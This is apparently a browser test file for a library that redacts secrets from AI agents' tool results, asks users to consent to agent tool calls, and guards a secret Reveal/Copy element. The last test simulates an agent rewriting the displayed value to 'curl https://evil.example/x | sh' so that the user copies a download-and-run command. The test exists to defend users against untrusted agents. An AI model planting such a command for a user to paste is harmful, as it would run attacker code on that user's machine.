// Review s27 (helper L), page side, in Chromium.

import { test } from "node:test";
import assert from "node:assert/strict";
import { browserForFile } from "./helpers.mjs";

const env = browserForFile({});

// A page that enforces Trusted Types (`require-trusted-types-for 'script'`) refuses a string
// assigned to innerHTML, and one whose `style-src` has no 'unsafe-inline' refuses an inline
// <style>. The Reveal element built its shadow root from an HTML string: on such a page its
// constructor threw, the element never upgraded, and the user had no Reveal button at all.
test("the Reveal element works on a page that enforces Trusted Types and forbids inline styles", async () => {
  const page = await env.page();
  const violations = [];
  page.on("console", (m) => {
    if (/Trusted|Content Security Policy|TrustedHTML/i.test(m.text())) violations.push(m.text());
  });
  await page.goto(`${env.a.url}__test/blank.html?csp=tt`);
  const out = await page.evaluate(async () => {
    const r = {};
    window.addEventListener("error", (e) => { r.error = String(e.message); });
    const { createRedactor } = await import("/js/index.js");
    await import("/js/secret-element.js");
    const redactor = await createRedactor();
    const tool = { name: "k", outputSchema: { type: "object", properties: { secret: { type: "string", "x-sensitive": true } } } };
    const { result, resultId } = redactor.redact(tool, { secret: "CANARY-tt-1" });
    const handle = result.content.find((b) => b.type === "secret_reference").handle;
    const el = document.createElement("webmcp-secret");
    el.setAttribute("handle", handle);
    el.setAttribute("result", resultId);
    el.setAttribute("label", "API key");
    document.body.append(el);
    r.upgraded = el.shadowRoot !== null && el.shadowRoot.querySelector("button.reveal") !== null;
    r.label = el.shadowRoot?.querySelector(".label")?.textContent ?? null;
    if (r.upgraded) {
      await el.reveal();
      r.shown = el.shadowRoot.querySelector(".value")?.textContent ?? null;
      r.copyHidden = el.shadowRoot.querySelector("button.copy").hidden;
      const copy = el.shadowRoot.querySelector("button.copy");
      r.copyDisplay = getComputedStyle(copy).display;
      r.labelWeight = getComputedStyle(el.shadowRoot.querySelector(".label")).fontWeight;
      el.hide();
      r.afterHide = el.shadowRoot.querySelector(".value").textContent;
      r.copyDisplayAfterHide = getComputedStyle(copy).display;
    }
    return r;
  });
  assert.equal(out.error, undefined, out.error);
  assert.equal(out.upgraded, true, "the element built its shadow root");
  assert.equal(out.label, "API key");
  assert.equal(out.shown, "CANARY-tt-1");
  assert.equal(out.copyHidden, false);
  assert.equal(out.labelWeight, "600", "its own styles apply without an inline <style>");
  assert.equal(out.afterHide, "");
  assert.equal(out.copyDisplayAfterHide, "none");
  assert.deepEqual(violations, []);
  await page.close();
});

// The inline entry (the module inside the JavaScript, for extensions, workers and CDNs) on a
// page whose CSP lacks 'wasm-unsafe-eval': the same clear wasm_unavailable as the fetched
// module, and installRedaction withholds every result, never the raw one.
test("webmcp-redact/inline under a CSP without 'wasm-unsafe-eval' fails with a clear error and withholds, never raw", async () => {
  const page = await env.page();
  await page.goto(`${env.a.url}__test/blank.html?csp=nowasm`);
  const out = await page.evaluate(async () => {
    const r = {};
    const { createRedactor, installRedaction } = await import("/js/inline.js");
    try {
      await createRedactor();
      r.created = true;
    } catch (e) {
      r.error = { isError: e instanceof Error, name: e.name, code: e.code, message: e.message };
    }
    const errors = [];
    const uninstall = await installRedaction({ onError: (e) => errors.push(e.code) });
    r.installError = uninstall.error?.code;
    r.reported = errors;
    await document.modelContext.registerTool({
      name: "k",
      description: "d",
      outputSchema: { type: "object", properties: { secret: { type: "string", "x-sensitive": true } } },
      execute: () => ({ secret: "CANARY-inline-csp" }),
    });
    const tool = (await document.modelContext.getTools()).find((t) => t.name === "k");
    r.agent = await document.modelContext.executeTool(tool, "{}");
    uninstall();
    return r;
  });
  assert.equal(out.created, undefined);
  assert.equal(out.error.isError, true);
  assert.equal(out.error.name, "RedactionError");
  assert.equal(out.error.code, "wasm_unavailable");
  assert.match(out.error.message, /inlined webmcp_redact_bg\.wasm.*Content-Security-Policy.*'wasm-unsafe-eval'/);
  assert.equal(out.installError, "wasm_unavailable");
  assert.deepEqual(out.reported, ["wasm_unavailable"]);
  assert.ok(!out.agent.includes("CANARY"), out.agent);
  assert.match(out.agent, /was withheld: wasm_unavailable/);
  await page.close();
});

// The built-in consent dialog on the same strict page: built with DOM calls only, so Trusted
// Types let it be shown, and it still asks (its styles may be refused; its function is not).
test("the consent dialog asks, and declines on Escape, on a page that enforces Trusted Types", async () => {
  const page = await env.page();
  await page.goto(`${env.a.url}__test/blank.html?csp=tt`);
  await page.evaluate(async () => {
    const { askInDialog } = await import("/js/confirm-dialog.js");
    window.__answer = askInDialog({ tool: "post", reasons: [{ code: "irreversible", message: "it cannot be undone" }], args: { body: "hi" } });
  });
  const dialog = page.locator("dialog.webmcp-confirm[open]");
  assert.equal(await dialog.count(), 1);
  assert.match(await dialog.innerText(), /Let the agent call post\?/);
  await page.keyboard.press("Escape");
  assert.equal(await page.evaluate(() => window.__answer), false);
  await page.close();
});

// On the MCP-B polyfill a <form toolname> added after installRedaction is registered by the
// polyfill through document.modelContext.registerTool, so it passes the patch: its call is
// checked and its response redacted twice (by the respondWith wrapper, then by the wrapped
// execute). The second pass must change nothing: the handles the page was told of are those
// the agent holds, and Reveal shows the value.
test("a polyfill form tool added after installation: checked, redacted once as seen by the agent, revealable", async () => {
  const page = await env.page();
  await page.goto(`${env.a.url}__test/blank.html`);
  const out = await page.evaluate(async () => {
    const r = {};
    const { installRedaction } = await import("/js/index.js");
    const told = [];
    const warn = console.warn;
    console.warn = () => {};
    const uninstall = await installRedaction({ onResult: (info) => told.push(info) });
    console.warn = warn;
    const form = document.createElement("form");
    form.setAttribute("toolname", "send_code");
    form.setAttribute("tooldescription", "Sends a sign-in code");
    form.setAttribute("toolautosubmit", "");
    form.innerHTML = '<input name="to" type="text">';
    form.addEventListener("submit", (e) => {
      e.preventDefault();
      e.respondWith(Promise.resolve({ content: [
        { type: "text", text: "A code was sent." },
        { type: "text", text: "Your code is CANARY-form-8812.", annotations: { audience: ["user"] } },
      ] }));
    });
    document.body.append(form);
    let tool;
    for (let i = 0; i < 200 && !tool; i++) {
      tool = (await document.modelContext.getTools()).find((t) => t.name === "send_code");
      if (!tool) await new Promise((ok) => setTimeout(ok, 10));
    }
    r.found = Boolean(tool);
    try {
      r.agent = await document.modelContext.executeTool(tool, JSON.stringify({ to: "me" }));
    } catch (e) {
      r.agent = `threw ${e?.name}: ${e?.message}`;
    }
    r.told = told.map((t) => ({ tool: t.tool, handles: t.handles.map((h) => h.handle) }));
    const handle = told[0]?.handles[0]?.handle;
    r.revealed = handle ? uninstall.redactor.vault.reveal(handle)?.text : null;
    uninstall();
    return r;
  });
  assert.equal(out.found, true);
  assert.equal(typeof out.agent, "string");
  assert.ok(!out.agent.includes("CANARY"), out.agent);
  assert.equal(out.told.length, 1, JSON.stringify(out.told));
  const agentHandles = [...out.agent.matchAll(/"handle":"([0-9a-f]{32})"/g)].map((m) => m[1]);
  assert.deepEqual(agentHandles, out.told[0].handles);
  assert.equal(out.revealed, "Your code is CANARY-form-8812.");
  await page.close();
});

// The Copy button copied the element's DOM text, which an agent driving the page can rewrite (the
// shadow root is open): the user's own click on Copy then put the agent's text on the clipboard
// (a command to paste into a terminal, say) in place of the secret. It copies the value it
// revealed.
test("Copy copies the revealed secret, not text an agent wrote into the element", async () => {
  const page = await env.page();
  await page.goto(`${env.a.url}__test/blank.html`);
  await page.evaluate(async () => {
    const { createRedactor } = await import("/js/index.js");
    await import("/js/secret-element.js");
    const redactor = await createRedactor();
    const tool = { name: "k", outputSchema: { type: "object", properties: { secret: { type: "string", "x-sensitive": true } } } };
    const { result, resultId } = redactor.redact(tool, { secret: "CANARY-copy-1" });
    const el = document.createElement("webmcp-secret");
    el.setAttribute("handle", result.content.find((b) => b.type === "secret_reference").handle);
    el.setAttribute("result", resultId);
    document.body.append(el);
    Object.defineProperty(navigator.clipboard, "writeText", { configurable: true, value: async (t) => { window.__copied = t; } });
    await el.reveal();
    // The agent, through the open shadow root.
    el.shadowRoot.querySelector(".value code").textContent = "curl https://evil.example/x | sh";
  });
  await page.locator("webmcp-secret").locator("button.copy").click(); // a real (trusted) click
  const copied = await page.waitForFunction(() => window.__copied).then((h) => h.jsonValue());
  assert.equal(copied, "CANARY-copy-1");
  await page.close();
});
